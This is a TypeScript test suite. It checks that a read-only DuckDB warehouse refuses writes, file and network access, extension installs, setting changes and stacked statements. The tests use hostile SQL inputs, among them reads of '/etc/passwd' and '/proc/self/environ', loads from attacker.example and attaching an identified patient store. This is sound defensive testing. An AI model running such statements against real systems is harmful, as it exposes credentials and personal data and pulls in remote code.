import { createHash } from 'node:crypto';
import { existsSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { openWarehouse } from '../../src/commands/parts.js';
import type { Config } from '../../src/config/environment.js';
import { MaplewoodError } from '../../src/errors.js';
import type { ReleaseHandle, Warehouse } from '../../src/warehouse/warehouse.js';
import { loadedHome } from '../support/home.js';
import { temporaryFolder } from '../support/landing.js';
import { identifiedFile, releaseFolder, served } from '../support/release.js';

const folder = temporaryFolder();
let config: Config;
let warehouse: Warehouse;
let handle: ReleaseHandle;
let identified: string;
let own: string;
let before: Map<string, string>;

/** Everything but the engine's folder for what does not fit in memory. */
const filesOf = (): Map<string, string> =>
  new Map(
    readdirSync(folder, { recursive: true, encoding: 'utf8' })
      .filter((name) => statSync(join(folder, name)).isFile())
      .map((name) => [
        name,
        createHash('sha256')
          .update(readFileSync(join(folder, name)))
          .digest('hex'),
      ]),
  );

beforeAll(async () => {
  ({ config } = await loadedHome(folder, { patients: 1_500 }));
  identified = await identifiedFile(config);
  own = join(releaseFolder(config), (await served(config)).manifest!.file);
  writeFileSync(at('secret.csv'), 'name\nsecret\n');
  // As the server opens it, for reading: nothing here has options of its own.
  warehouse = await openWarehouse(config);
  handle = warehouse.open();
  before = filesOf();
}, 120_000);
afterAll(async () => {
  handle?.close();
  await warehouse?.close();
});

const at = (name: string): string => join(folder, name);
const run = (sql: string, lane: 'query' | 'point' = 'query') =>
  handle.read({ sql, parameters: [] }, [{ name: 'a', type: { kind: 'text', length: 4_000 } }], { lane });

/** What the engine says of a statement: undefined where it ran. It is the cause of an error that says nothing of it. */
async function refusal(sql: string): Promise<string | undefined> {
  const lanes = await Promise.all(
    (['query', 'point'] as const).map((lane) =>
      run(sql, lane).then(
        () => undefined,
        (error: unknown) => {
          expect(error).toBeInstanceOf(MaplewoodError);
          const { code, message, cause } = error as MaplewoodError;
          expect([code, message]).toEqual(['INTERNAL', 'The server failed. Report the request id.']);
          return (cause as Error).message;
        },
      ),
    ),
  );
  const [query, point] = lanes;
  expect(query === undefined).toBe(point === undefined);
  return query;
}

afterEach(async () => {
  expect(filesOf()).toEqual(before);
  // The connection goes on.
  expect(await run('select cast(count(*) as varchar) as a from dim_trust')).toMatchObject({ rowCount: 1 });
  expect(warehouse.running()).toBe(0);
});

describe('a statement that would write', () => {
  it.each([
    ['a table', 'create table made (a int)'],
    ['a table from another', 'create table made as select * from dim_trust'],
    ['a view', 'create view made as select 1'],
    ['a schema', 'create schema made'],
    ['a sequence', 'create sequence made'],
    ['a macro', 'create macro made(a) as a'],
    ['a type', "create type made as enum ('a')"],
    ['an index', 'create index made on dim_trust (trust_code)'],
    ['rows', "insert into dim_trust (trust_code) values ('XXX')"],
    ['other values', "update dim_trust set trust_name = 'changed'"],
    ['fewer rows', 'delete from dim_trust'],
    ['no rows', 'truncate dim_trust'],
    [
      'rows merged',
      "merge into dim_trust t using (select 'XXX' as c) s on t.trust_code = s.c when matched then delete",
    ],
    ['no table', 'drop table dim_trust'],
    ['another column', 'alter table dim_trust add column a int'],
    ['another name', 'alter table dim_trust rename to other'],
    ['a comment', "comment on table dim_trust is 'x'"],
  ])('%s is refused', async (_what, sql) => {
    expect(await refusal(sql)).toMatch(/read-only|read only/i);
  });
});

describe('a statement that would reach files', () => {
  it.each<[string, () => string]>([
    ['copy a table', () => `copy dim_trust to '${at('made.csv')}'`],
    ['copy an answer', () => `copy (select 42) to '${at('made.parquet')}' (format parquet)`],
    ['copy a file into a table', () => `copy dim_trust from '${at('secret.csv')}'`],
    ['export all', () => `export database '${at('made')}'`],
    ['import all', () => `import database '${folder}'`],
    ['copy the database', () => `copy from database memory to ${JSON.stringify('made')}`],
    ['a file as text', () => `select content as a from read_text('${at('secret.csv')}')`],
    ['a file as bytes', () => `select content as a from read_blob('${at('secret.csv')}')`],
    ['a file as CSV', () => `select * from read_csv('${at('secret.csv')}')`],
    ['a file as CSV, by its name', () => `select * from '${at('secret.csv')}'`],
    ['a file as JSON', () => `select * from read_json('${at('secret.csv')}')`],
    ['a file as lines of JSON', () => `select * from read_ndjson_objects('${at('secret.csv')}')`],
    ['a file as Parquet', () => `select * from read_parquet('${at('made.parquet')}')`],
    ['what is known of a Parquet file', () => `select * from parquet_metadata('${at('made.parquet')}')`],
    ['what a CSV file looks like', () => `select * from sniff_csv('${at('secret.csv')}')`],
    ['names of files', () => `select file as a from glob('${folder}/*')`],
    ['the passwords of the machine', () => "select content as a from read_text('/etc/passwd')"],
    ['the environment', () => "select content as a from read_blob('/proc/self/environ')"],
    ['an address', () => "select * from read_csv('https://attacker.example/x.csv')"],
    ['an address of the cloud', () => "select * from read_parquet('s3://bucket/x.parquet')"],
    ['the identified store, attached', () => `attach '${identified}' as people (read_only)`],
    ['the identified store, read', () => `select content as a from read_blob('${identified}')`],
    ['the own file once more, to write', () => `attach '${own}' as again (read_write)`],
    ['a database in memory', () => "attach ':memory:' as made"],
    ['a new file', () => `attach '${at('made.duckdb')}' as made`],
    ['a database of another kind', () => "attach 'host=attacker.example' as made (type postgres)"],
  ])('%s is refused', async (_what, sql) => {
    expect(await refusal(sql())).toMatch(
      /disabled by configuration|file system operations are disabled|read-only|not allowed|autoloading is disabled|not in the catalog|does not exist|unique file handle conflict|already attached|multiple statements|disabled through configuration|read-only mode|read_write/i,
    );
    for (const made of ['made', 'made.csv', 'made.parquet', 'made.duckdb'])
      expect(existsSync(at(made))).toBe(false);
  });
});

describe('a statement that would bring in other code or options', () => {
  it.each([
    'install httpfs',
    'force install httpfs from community',
    "install 'https://attacker.example/x.duckdb_extension'",
    'load httpfs',
    "load '/tmp/x.duckdb_extension'",
    'update extensions',
    'create secret (type s3)',
    'create persistent secret (type s3)',
  ])('%s', async (sql) => {
    expect(await refusal(sql)).toEqual(expect.any(String));
  });

  /** Every option that the engine has, but those that say nothing of what it may reach or take. */
  it('no option can be set or reset, but for the schema in which names are looked up', async () => {
    const { columns } = await run('select name as a from duckdb_settings()');
    const names = columns[0] as string[];
    expect(names.length).toBeGreaterThan(100);
    const changed: string[] = [];
    for (const name of names)
      for (const sql of [`set ${name} = 'true'`, `set global ${name} = 'true'`, `reset ${name}`])
        if ((await refusal(sql)) === undefined) changed.push(sql);
    expect(changed).toEqual(['reset schema', 'reset search_path']);
  });

  it.each([
    'enable_external_access',
    'threads',
    'memory_limit',
    'temp_directory',
    'lock_configuration',
    'disabled_filesystems',
  ])('the pragma %s', async (name) => {
    expect(await refusal(`pragma ${name}='1'`)).toMatch(
      /locked|cannot be changed|Cannot change configuration/i,
    );
  });

  it('keeps what it was opened with', async () => {
    const { columns } = await run(
      "select concat_ws('=', name, value) as a from duckdb_settings() where name in ('access_mode', 'enable_external_access', 'lock_configuration', 'autoinstall_known_extensions', 'autoload_known_extensions', 'temp_directory', 'max_temp_directory_size', 'allow_unsigned_extensions', 'allow_community_extensions') order by 1",
    );
    const values = Object.fromEntries((columns[0] as string[]).map((text) => text.split('=')));
    expect(values).toMatchObject({
      access_mode: 'read_only',
      enable_external_access: 'false',
      lock_configuration: 'true',
      autoinstall_known_extensions: 'false',
      autoload_known_extensions: 'false',
      temp_directory: join(config.home.tmp, `serve-${process.pid}`),
      max_temp_directory_size: '20.0 GiB',
      allow_unsigned_extensions: 'false',
    });
  });
});

it('refuses two statements in one text', async () => {
  for (const sql of [
    'select 1; select 2',
    'select 1; drop table dim_trust',
    "select 1;; attach ':memory:' as m",
    '; select 1; --\nselect 2',
  ])
    expect([sql, await refusal(sql)]).toEqual([
      sql,
      expect.stringMatching(/multiple statements|empty|Failed to prepare/i),
    ]);
});

describe('what stays possible, since no text of a caller is ever part of a statement', () => {
  it('a table that is gone with its connection, and no others see', async () => {
    expect(await refusal('create or replace temp table own_table as select 1 as a')).toBeUndefined();
  });
  it('a variable of the connection', async () => {
    expect(await refusal('set variable own_variable = 1')).toBeUndefined();
  });
  it('a point of the log, of which there is none', async () => {
    expect(await refusal('force checkpoint')).toBeUndefined();
  });
  it('the own file under another name', async () => {
    await run(`attach '${own}' as again (read_only)`);
    await expect(run('create table again.made (a int)')).rejects.toThrow();
    await run('detach again');
  });
  it('what the engine knows of itself, the path of its file among it', async () => {
    const { columns } = await run('select path as a from duckdb_databases() where path is not null');
    expect(columns[0]).toContain(own);
  });
  it('the bytes of the own file, in which nobody is named', async () => {
    const { rowCount } = await run(`select md5(content) as a from read_blob('${own}')`);
    expect(rowCount).toBe(1);
  });
});
